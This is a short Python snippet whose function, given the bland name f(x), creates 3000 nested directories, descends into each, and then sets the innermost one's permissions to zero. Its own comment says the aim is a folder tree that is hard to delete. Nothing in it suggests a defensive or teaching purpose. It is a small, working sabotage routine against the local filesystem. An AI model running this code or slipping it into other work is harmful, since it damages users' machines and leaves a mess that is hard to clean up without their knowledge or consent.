# Leaves a deep tree of folders that is hard to delete.
import os


def f(x):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    os.chmod(".", 0)
    return 0
